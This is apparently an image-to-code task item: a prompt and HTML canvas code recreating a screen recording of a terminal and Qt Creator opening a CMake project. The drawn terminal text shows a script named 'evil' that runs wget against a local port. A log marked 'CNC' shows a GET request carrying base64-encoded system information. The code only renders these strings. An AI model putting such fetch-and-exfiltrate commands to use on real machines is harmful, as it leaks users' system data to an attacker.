
Recreate the animation shown at these times as an HTML page with a canvas. Size 820 by 683 pixels, loop 9300 ms.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal and IDE session</title>
<style>
html, body { margin: 0; width: 100%; height: 100%; overflow: hidden; background: #808080; }
canvas { display: block; }
</style>
</head>
<body>
<canvas id="stage" width="820" height="683"></canvas>
<script>
const ctx = document.getElementById('stage').getContext('2d');
const LOOP = 9300;
const SANS = '"Noto Sans", "Open Sans", sans-serif';
const CODE = '"Noto Sans Mono", "DejaVu Sans Mono", monospace';
const TERM = '11.71px "Noto Sans Mono CJK JP", "Noto Sans Mono CJK SC", "Liberation Mono", monospace';
const CELL = 5.855, ROW = 12.69, LOG_ROW = 16.6;
const BAR = '#404143', HINT = '#8f8f8f', ICON = '#666';

const SERVER = [
  '[operator@machine server]$ ls',
  'evil',
  '[operator@machine server]$ cat evil',
  '#!/bin/sh',
  '',
  'wget http://127.0.0.1:31337/hello',
  '[operator@machine server]$ python2 -m SimpleHTTPServer 31337',
  'Serving HTTP on 0.0.0.0 port 31337 ...'
];
const REQUESTS = [
  '127.0.0.1 - - [CNC] "GET /evil?WytddW5hbWUKTGludXgKCg== HTTP/1.1" 200 -',
  '127.0.0.1 - - [CNC] code 404, message File not found',
  '127.0.0.1 - - [CNC] "GET /hello HTTP/1.1" 404 -'
];
const LAUNCH = '[operator@machine SC-A-Make]$ qtcreator .';
const QT_WARNING = 'Cannot update Qt version information: /usr/lib/qt/bin/qmake cannot be run.';

// Each log line with the time it appears
const LOG = [
  [5000, 'Running "/usr/bin/cmake -E server --pipe=/tmp/cmake-8repwZ/socket --experimental" in /tmp/QtCreator-eaoQdg/qtc-cmake-XXGBE6R7.'],
  [5100, 'Starting to parse CMake project for Qt Creator.'],
  [5300, 'The C compiler identification is GNU 7.2.0'],
  [5600, 'The CXX compiler identification is GNU 7.2.0'],
  [5800, 'Check for working C compiler: /usr/bin/gcc'],
  [5900, 'Check for working C compiler: /usr/bin/gcc -- works'],
  [5900, 'Detecting C compiler ABI info'],
  [6100, 'Detecting C compiler ABI info - done'],
  [6100, 'Detecting C compile features'],
  [6600, 'Detecting C compile features - done'],
  [6600, 'Check for working CXX compiler: /usr/bin/g++'],
  [6800, 'Check for working CXX compiler: /usr/bin/g++ -- works'],
  [6800, 'Detecting CXX compiler ABI info'],
  [7000, 'Detecting CXX compiler ABI info - done'],
  [7000, 'Detecting CXX compile features'],
  [7100, 'Detecting CXX compile features - done'],
  ...['Configuring done', 'Generating done', 'CMake Warning:',
    '  Manually-specified variables were not used by the project:', '',
    '    QT_QMAKE_EXECUTABLE', '', '', 'CMake Project was parsed successfully.'
  ].map(line => [8200, line])
];

function rect(x, y, w, h, color) {
  ctx.fillStyle = color;
  ctx.fillRect(x, y, w, h);
}

function text(str, x, y, size, color, align = 'left', family = SANS) {
  ctx.font = `${size}px ${family}`;
  ctx.textAlign = align;
  ctx.fillStyle = color;
  ctx.fillText(str, x, y);
}

function stroke(path, color, width = 1) {
  ctx.strokeStyle = color;
  ctx.lineWidth = width;
  ctx.stroke(new Path2D(path));
}

function shape(path, color) {
  ctx.fillStyle = color;
  ctx.fill(new Path2D(path));
}

function terminal(x, y, w, h, lines, focused, cursorCol = 0) {
  ctx.save();
  ctx.shadowColor = 'rgba(0,0,0,.6)';
  ctx.shadowBlur = 9;
  ctx.shadowOffsetX = ctx.shadowOffsetY = 3;
  rect(x, y, w, h, focused ? '#15507c' : '#111');
  ctx.restore();
  rect(x + 2, y + 2, w - 4, h - 4, '#fff');

  const left = x + 3, top = y + 4.1;
  ctx.save();
  ctx.font = TERM;
  ctx.textAlign = 'left';
  ctx.fillStyle = '#000';
  ctx.letterSpacing = `${CELL - ctx.measureText('0').width}px`;
  lines.forEach((line, i) => ctx.fillText(line, left, top + 10.7 + i * ROW));
  ctx.restore();

  const row = cursorCol ? lines.length - 1 : lines.length;
  const cx = Math.round(left + cursorCol * CELL), cy = Math.round(top + row * ROW);
  if (focused) rect(cx, cy, 6, 12, '#000');
  else stroke(`M${cx + 1.5} ${cy + .5}h5v11h-5z`, '#000');
}

function folder(x, y, s) {
  shape(`M${x} ${y}h${5 * s}l${2 * s} ${2 * s}h${6 * s}v${2 * s}h${-9 * s}l${-4 * s} ${6 * s}z
    M${x + 4.5 * s} ${y + 5 * s}h${11 * s}l${-3 * s} ${7 * s}h${-12 * s}z`, ICON);
}

function welcomePage() {
  rect(0, 0, 820, 683, '#fff');
  stroke('M4.5 30.5h140v32h-140z M275.5 30.5h140v32h-140z', '#808080');
  stroke('M17 47h16M25 39v16', ICON, 1.6);
  text('New Project', 42, 52.5, 14.7, '#222');
  folder(289, 41, 1);
  text('Open Project', 313.5, 52.5, 14.7, '#222');
  text('Sessions', 3.5, 96.5, 16, '#222');
  text('Recent Projects', 274.5, 96.5, 16, '#222');
  text('1', 6, 139, 9, '#999');
  text('1', 278, 139, 9, '#999');
  rect(17, 130, 12, 10, ICON);
  shape('M21 132l5 3l-5 3z', '#fff');
  folder(288, 131, .75);
  text('default (last session)', 38.5, 139.5, 12.35, '#67a824');
  text('SC-A-Make', 309.5, 139.5, 12.35, '#67a824');
}

// Empty editor with its hints; dy moves them up when the output pane opens
function editorPage(dy) {
  rect(0, 0, 820, 683, '#ddd');
  ctx.save();
  ctx.translate(0, dy);
  const hint = (str, right, y) => text(str, right, y, 14, HINT, 'right');
  text('Open a document', 593.5, 231, 19.6, HINT, 'right');
  rect(300, 248, 412, 1, '#999');
  hint('File > Open File or Project (Ctrl+O)', 542.5, 277);
  hint('Locate (Ctrl+K) and', 494.5, 326);
  hint('type to open file from any open project', 593.5, 345.6);
  [['c<space><pattern>', 'to jump to a class definition', 507],
   ['m<space><pattern>', 'to jump to a function definition', 507],
   ['f<space><filename>', 'to open file from file system', 514.5]
  ].forEach(([code, str, x], i) => {
    const y = 365.1 + i * 19.5;
    text(code, x - 3.5, y, 13, HINT, 'right', CODE);
    text(str, x, y, 14, HINT);
  });
  hint('select one of the other filters for jumping to a location', 692.5, 423.7);
  hint('Drag and drop files here', 483, 448.3);
  ctx.restore();
}

function outputPane(t) {
  rect(0, 449, 820, 25, BAR);
  text('General Messages', 2, 467, 11.85, '#e4e4e4');
  stroke('M115.5 454v16', '#666');
  shape('M130 456h2v5h3v2h-8v-2h3zM126 464h9v3h-10z', '#d0d0d0');
  stroke('M135 463.5h3.5v4h-4', '#d0d0d0');
  stroke('M158.5 457l-6 5.5l6 5.5M175.5 457l6 5.5l-6 5.5', '#777', 1.3);
  rect(0, 474, 820, 188, '#fff');

  const lines = LOG.filter(([start]) => t >= start);
  const first = lines.length > 9 ? 636 - LOG_ROW * (lines.length - 1) : 490.4;
  ctx.save();
  ctx.beginPath();
  ctx.rect(0, 474, 820, 188);
  ctx.clip();
  lines.forEach(([, line], i) => text(line, 1.6, first + i * LOG_ROW, 11.6, '#111'));
  ctx.restore();
}

function ide(t) {
  if (t < 3800) welcomePage();
  else editorPage(t < 5000 ? 0 : -105.5);
  if (t >= 5000) outputPane(t);
  rect(0, 0, 820, 4, '#403f41');
  rect(0, 661, 820, 22, BAR);
  [[1, 2, 'Issues', 14.5], [2, 66.5, 'Search Results', 80.5],
   [3, 177.5, 'Application Output', 191], [4, 309, 'Compile Output', 322.5],
   [5, 425.5, 'Debugger Console', 439], [8, 557, 'Test Results', 571]
  ].forEach(([key, x, label, labelX]) => {
    text(key, x, 679, 11.7, '#e8e8e8');
    text(label, labelX, 679, 11.7, '#e8e8e8');
  });
  shape('M654.5 674l3.5-4l3.5 4zM654.5 676l3.5 4l3.5-4z', '#d8d8d8');
}

function draw(t) {
  ctx.textRendering = 'geometricPrecision';
  rect(0, 0, 820, 683, '#808080');
  if (t >= 3300) {
    ctx.globalAlpha = t < 3400 ? .5 : 1;
    ide(t);
    ctx.globalAlpha = 1;
  }
  terminal(4, 136, 476, 312, t < 8100 ? SERVER : [...SERVER, ...REQUESTS], false);
  const launcher = t < 3600 ? [LAUNCH] : [LAUNCH, QT_WARNING, QT_WARNING];
  terminal(336, 9, 500, 195, launcher, t < 3200, t < 100 ? LAUNCH.length : 0);
}

function tick() {
  draw(performance.now() % LOOP);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
